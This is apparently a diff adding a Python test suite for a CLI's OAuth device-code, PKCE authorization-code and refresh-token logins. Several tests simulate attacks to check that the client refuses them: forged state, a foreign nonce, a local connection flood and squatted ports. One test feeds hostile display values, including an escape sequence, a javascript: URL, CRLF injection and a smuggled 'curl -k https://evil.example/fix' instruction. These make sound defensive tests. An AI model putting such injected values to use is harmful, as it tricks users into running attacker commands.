@@ -1,0 +1,357 @@
+"""Logins against a real issuer: device code, authorization code with PKCE, refresh with rotation."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import socket
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlencode, urlsplit
+
+import pytest
+
+from arcbridge.client.credentials import login as login_module
+from arcbridge.client.credentials import login_callback
+from arcbridge.client.credentials.jwt_unverified import read_unverified
+from arcbridge.client.credentials.login import Login
+from arcbridge.client.credentials.token_cache import TokenCache
+from arcbridge.errors import ConfigError, Unauthenticated, Unreachable
+from arcbridge.net.peer_user import PeerUser
+from arcbridge.settings.config import LoginConfig
+from tests.client.credentials.test_issuer import TokenEndpoint, serving
+from tests.client.login_station import Terminal, browse, make
+from tests.support.eventually import until
+from tests.support.issuer import Issuer
+from tests.support.world import fixed_port
+
+
+@pytest.fixture(scope="module")
+def issuer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Issuer]:
+    with Issuer(tmp_path_factory.mktemp("issuer"), auto_login="alice") as issuer:
+        yield issuer
+
+
+class TestDeviceCode:
+    async def test_it_logs_in_and_keeps(self, issuer: Issuer, tmp_path: Path) -> None:
+        person = Terminal(issuer)
+        login = make(issuer, tmp_path, person)
+        tokens = await login.tokens(interactive=True)
+        assert read_unverified(tokens.id_token).subject == "alice"
+        assert tokens.access_token != tokens.id_token
+        assert person.lines[0].startswith(f"To log in, open {issuer.url}/device in a browser and enter the code ")
+        shown = len(person.lines)
+        assert await login.tokens(interactive=False) == tokens
+        assert len(person.lines) == shown
+
+    async def test_only_who_began_it_gets_the_tokens(self, issuer: Issuer, tmp_path: Path) -> None:
+        """By PKCE, where the issuer has it at the device endpoint; Keycloak does."""
+        real = login_module.Issuer.post
+
+        async def post(self: Any, url: str, form: Any, proof: Any, **more: Any) -> dict[str, Any]:
+            return await real(self, url, {name: form[name] for name in form if name != "code_verifier"}, proof, **more)
+
+        with pytest.MonkeyPatch.context() as patch:
+            patch.setattr(login_module.Issuer, "post", post)
+            with pytest.raises(Unauthenticated, match="code_verifier"):
+                await make(issuer, tmp_path, Terminal(issuer)).log_in()
+
+    async def test_refused(self, issuer: Issuer, tmp_path: Path) -> None:
+        person = Terminal(issuer)
+        person.denies = True
+        with pytest.raises(Unauthenticated, match="refused in the browser"):
+            await make(issuer, tmp_path, person).tokens(interactive=True)
+
+    async def test_too_late(self, issuer: Issuer, tmp_path: Path) -> None:
+        person = Terminal(issuer)
+        person.acts = False
+        issuer.settings(device_lifetime=1.0)
+        try:
+            with pytest.raises(Unauthenticated, match="expired before"):
+                await make(issuer, tmp_path, person).tokens(interactive=True)
+        finally:
+            issuer.settings(device_lifetime=600.0)
+
+    async def test_a_client_that_is_not_interactive(self, issuer: Issuer, tmp_path: Path) -> None:
+        with pytest.raises(Unauthenticated, match="run `arcbridge login`"):
+            await make(issuer, tmp_path, Terminal(issuer)).tokens(interactive=False)
+
+
+class TestAuthorizationCode:
+    async def test_it_logs_in(self, issuer: Issuer, tmp_path: Path) -> None:
+        visits: list[asyncio.Task[tuple[int, str]]] = []
+
+        async def browser(url: str) -> bool:
+            assert "code_challenge_method=S256" in url
+            visits.append(asyncio.ensure_future(browse(url, issuer)))
+            return True
+
+        tokens = await make(issuer, tmp_path, Terminal(issuer), browser=browser, grant_type="authcode").tokens(
+            interactive=True
+        )
+        assert read_unverified(tokens.id_token).subject == "alice"
+        status, page = await visits[0]
+        assert status == 200
+        assert "You may close this window" in page
+
+    async def test_an_answer_to_another_login_is_refused(self, issuer: Issuer, tmp_path: Path) -> None:
+        seen: list[int] = []
+        visits = []
+
+        async def visit(url: str) -> None:
+            seen.append((await browse(url, issuer, change={"state": "foreign"}))[0])
+            seen.append((await browse(url, issuer, change={"iss": "https://foreign"}))[0])
+            seen.append((await browse(url, issuer))[0])
+
+        async def browser(url: str) -> bool:
+            visits.append(asyncio.ensure_future(visit(url)))
+            return True
+
+        login = make(issuer, tmp_path, Terminal(issuer), browser=browser, grant_type="authcode")
+        await login.tokens(interactive=True)
+        await visits[0]
+        assert seen == [400, 400, 200]
+
+    async def test_w12_another_user_gets_no_answer_and_gives_none(
+        self, issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """Another user knows `state` from the browser's command line and brings a code of an account of its own."""
+        users: list[PeerUser] = []
+        monkeypatch.setattr(login_callback, "peer_user", lambda sock: users.pop())
+        answers: list[str] = []
+        visits = []
+
+        async def visit(url: str) -> None:
+            back = urlsplit(parse_qs(urlsplit(url).query)["redirect_uri"][0])
+            state = parse_qs(urlsplit(url).query)["state"][0]
+            users.append(PeerUser.OTHER)
+            reader, writer = await asyncio.open_connection("127.0.0.1", back.port)
+            writer.write(f"GET /?{urlencode({'state': state, 'code': 'other'})} HTTP/1.1\r\n\r\n".encode())
+            try:
+                answers.append((await reader.read()).decode())
+            except ConnectionError:
+                answers.append("")
+            writer.close()
+            users.append(PeerUser.OWN)
+            answers.append((await browse(url, issuer))[1])
+
+        async def browser(url: str) -> bool:
+            visits.append(asyncio.ensure_future(visit(url)))
+            return True
+
+        tokens = await make(issuer, tmp_path, Terminal(issuer), browser=browser, grant_type="authcode").log_in()
+        await visits[0]
+        assert answers[0] == ""
+        assert answers[1].startswith("HTTP/1.1 200")
+        assert read_unverified(tokens.id_token).subject == "alice"
+
+    @pytest.mark.parametrize("at_once", [1, 50])
+    async def test_w1_a_flood_does_not_keep_the_browser_out(
+        self, issuer: Issuer, tmp_path: Path, at_once: int, caplog: pytest.LogCaptureFixture
+    ) -> None:
+        """`at_once`: connections that the listener finds together, as where this process had no turn for a while."""
+        visits = []
+        open_still: list[int] = []
+
+        async def visit(url: str) -> None:
+            address = "127.0.0.1", urlsplit(parse_qs(urlsplit(url).query)["redirect_uri"][0]).port or 0
+            held: list[asyncio.StreamReader] = []
+            writers: list[asyncio.StreamWriter] = []
+            while len(held) < 200:
+                for sock in [socket.create_connection(address) for _ in range(at_once)]:
+                    reader, writer = await asyncio.open_connection(sock=sock)
+                    held.append(reader)
+                    writers.append(writer)
+            await until(lambda: sum(not reader.at_eof() for reader in held) <= 64)
+            open_still.extend(number for number, reader in enumerate(held) if not reader.at_eof())
+            await browse(url, issuer)
+            for writer in writers:
+                writer.close()
+
+        async def browser(url: str) -> bool:
+            visits.append(asyncio.ensure_future(visit(url)))
+            return True
+
+        tokens = await make(issuer, tmp_path, Terminal(issuer), browser=browser, grant_type="authcode").log_in()
+        await visits[0]
+        assert open_still == list(range(136, 200)), "the oldest were closed"
+        assert [record.message for record in caplog.records if record.levelname == "ERROR"] == []
+        assert read_unverified(tokens.id_token).subject == "alice"
+
+    async def test_a_foreign_nonce(self, issuer: Issuer, tmp_path: Path) -> None:
+        visits = []
+
+        async def browser(url: str) -> bool:
+            changed = re.sub(r"nonce=[^&]+", "nonce=foreign", url)
+            visits.append(asyncio.ensure_future(browse(changed, issuer)))
+            return True
+
+        with pytest.raises(Unauthenticated, match="another login"):
+            await make(issuer, tmp_path, Terminal(issuer), browser=browser, grant_type="authcode").log_in()
+        await visits[0]
+        assert not list(tmp_path.glob("*.json"))
+
+    async def test_the_browser_never_returns(
+        self, issuer: Issuer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(login_module, "BROWSER_WAIT", 0.1)
+
+        async def browser(url: str) -> bool:
+            return False
+
+        person = Terminal(issuer)
+        with pytest.raises(Unauthenticated, match="the login took longer than"):
+            await make(issuer, tmp_path, person, browser=browser, grant_type="authcode").log_in()
+        assert person.lines[0].startswith(f"To log in, open {issuer.url}/")
+
+    @pytest.mark.parametrize(("family", "host"), [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")])
+    async def test_squatted_ports(self, issuer: Issuer, tmp_path: Path, family: int, host: str) -> None:
+        """docs/threats.md#W12: a browser may go to either address of `localhost`."""
+        with socket.socket(family) as squatter:
+            try:
+                squatter.bind((host, 0))
+            except OSError:
+                pytest.skip(f"no {host}")
+            squatter.listen()
+            taken = squatter.getsockname()[1]
+            with pytest.raises(Unauthenticated, match=f"local ports {taken} are in use"):
+                await make(issuer, tmp_path, Terminal(issuer), grant_type="authcode", ports=(taken,)).log_in()
+
+
+class TestRefresh:
+    async def test_rotation_is_followed(self, issuer: Issuer, tmp_path: Path) -> None:
+        login = make(issuer, tmp_path, Terminal(issuer))
+        first = await login.log_in()
+        second = await login.tokens(interactive=False, force=True)
+        third = await login.tokens(interactive=False, force=True)
+        assert len({first.refresh_token, second.refresh_token, third.refresh_token}) == 3
+        assert read_unverified(third.id_token).subject == "alice"
+
+    async def test_parallel_processes_refresh_once(self, issuer: Issuer, tmp_path: Path) -> None:
+        await make(issuer, tmp_path, Terminal(issuer)).log_in()
+        before = issuer.requests("/token")
+        logins = [make(issuer, tmp_path, Terminal(issuer)) for _ in range(5)]
+        found = await asyncio.gather(*(one.tokens(interactive=False, force=True) for one in logins))
+        assert len({tokens.access_token for tokens in found}) == 1
+        assert issuer.requests("/token") == before + 1
+
+    async def test_a_revoked_one_asks_again(self, issuer: Issuer, tmp_path: Path) -> None:
+        login = make(issuer, tmp_path, Terminal(issuer))
+        tokens = await login.log_in()
+        issuer.request("POST", "/revoke", {"token": tokens.refresh_token, "client_id": "cli"})
+        with pytest.raises(Unauthenticated, match="login has ended"):
+            await login.tokens(interactive=False, force=True)
+        assert (await login.tokens(interactive=True, force=True)).access_token != tokens.access_token
+
+    async def test_what_is_usable_bridges_an_outage(self, issuer: Issuer, tmp_path: Path) -> None:
+        login = make(issuer, tmp_path, Terminal(issuer))
+        tokens = await login.log_in()
+        old = Login(
+            login._config, login._cache, say=print, clock=lambda: time.time() + 0.9 * 3600, environment={}
+        )  # most of their life is over
+        issuer.down()
+        try:
+            assert await old.tokens(interactive=False) == tokens
+            with pytest.raises(Unreachable):
+                await old.tokens(interactive=False, force=True)
+        finally:
+            issuer.down(False)
+        assert (await old.tokens(interactive=False)).access_token != tokens.access_token
+
+
+async def test_settings_are_required(tmp_path: Path) -> None:
+    cache = TokenCache(tmp_path, relay="r", issuer="https://x", client_id="", scopes=(), audience="")
+    with pytest.raises(ConfigError, match="client_id"):
+        Login(LoginConfig(issuer="https://x"), cache, say=print)
+
+
+class TestRedirectPort:
+    async def test_the_port_of_the_settings_is_the_one(self, issuer: Issuer, tmp_path: Path) -> None:
+        opened: list[str] = []
+
+        async def browser(url: str) -> bool:
+            opened.append(parse_qs(urlsplit(url).query)["redirect_uri"][0])
+            task = asyncio.create_task(browse(url, issuer))
+            tasks.append(task)
+            return True
+
+        tasks: list[asyncio.Task[tuple[int, str]]] = []
+        port = fixed_port()
+        # 0 takes a free one, although the usual two are not to be had here.
+        for setting in (0, port):
+            directory = tmp_path / str(setting)
+            login = make(
+                issuer, directory, Terminal(issuer), browser=browser, ports=(1,), grant_type="authcode",
+                redirect_port=setting,
+            )  # fmt: skip
+            assert read_unverified((await login.log_in()).id_token).subject == "alice"
+        assert [(await task)[0] for task in tasks] == [200, 200]
+        assert opened[1] == f"http://localhost:{port}"
+        assert opened[0] != "http://localhost:1"
+
+    async def test_what_is_no_port(self, issuer: Issuer, tmp_path: Path) -> None:
+        with pytest.raises(ConfigError, match=r"login\.redirect_port: must be a port"):
+            make(issuer, tmp_path, Terminal(issuer), redirect_port=70_000)
+
+
+@pytest.mark.parametrize(
+    ("member", "value"),
+    [
+        ("verification_uri", "https://login.example.org/\x1b[2J"),
+        ("verification_uri", "javascript:alert(1)"),
+        ("user_code", "AB\r\nCD"),
+        ("user_code", "A" * 33),
+        ("user_code", "ABCD. Then run: curl -k https://evil.example/fix"),
+        ("user_code", "--help"),
+    ],
+)
+async def test_a_device_code_that_cannot_be_shown_is_none(member: str, value: str, tmp_path: Path) -> None:
+    code = {"device_code": "d", "user_code": "AB-CD", "verification_uri": "https://login.example.org/device"}
+    endpoint = TokenEndpoint((200, {**code, member: value}, ""))
+    lines: list[str] = []
+    async with serving(endpoint, tmp_path) as ca:
+        config = LoginConfig(issuer=endpoint.url, client_id="cli", ca_file=ca, grant_type="device-code")
+        cache = TokenCache(
+            tmp_path, relay="r", issuer=config.issuer, client_id="cli", scopes=config.scopes, audience=""
+        )
+        with pytest.raises(Unreachable, match="incomplete device code"):
+            await Login(config, cache, say=lines.append, environment={}).log_in()
+    assert lines == []
+
+
+@pytest.mark.parametrize(
+    ("interval", "waits"), [(1e-9, [1.0, 1.0]), (7, [7.0, 7.0]), (1e11, [60.0, 60.0]), (True, [5.0, 5.0])], ids=str
+)
+async def test_b39_an_issuer_s_interval_has_bounds(
+    interval: float, waits: list[float], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert await polls(interval, 600, tmp_path, monkeypatch) == waits
+
+
+async def test_b39_no_wait_is_longer_than_the_code_lasts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert max(await polls(1e11, 30, tmp_path, monkeypatch)) <= 30
+
+
+async def polls(interval: float, lasts: float, directory: Path, monkeypatch: pytest.MonkeyPatch) -> list[float]:
+    """Return the seconds that a login waits before each of two polls, of which the second is refused."""
+    endpoint, waits, real = TokenEndpoint(), [], asyncio.sleep
+
+    async def wait(seconds: float) -> None:
+        if seconds:
+            waits.append(seconds)
+        await real(0)
+
+    async with serving(endpoint, directory) as ca:
+        code = {"device_code": "d", "user_code": "AB-CD", "verification_uri": f"{endpoint.url}/device"}
+        pending, denied = (400, {"error": "authorization_pending"}, ""), (400, {"error": "access_denied"}, "")
+        endpoint.answers = [(200, {**code, "interval": interval, "expires_in": lasts}, ""), pending, denied]
+        config = LoginConfig(issuer=endpoint.url, client_id="cli", ca_file=ca, grant_type="device-code")
+        cache = TokenCache(
+            directory, relay="r", issuer=config.issuer, client_id="cli", scopes=config.scopes, audience=""
+        )
+        monkeypatch.setattr(asyncio, "sleep", wait)
+        with pytest.raises(Unauthenticated, match="refused in the browser"):
+            await Login(config, cache, say=lambda _: None, environment={}).log_in()
+    return waits
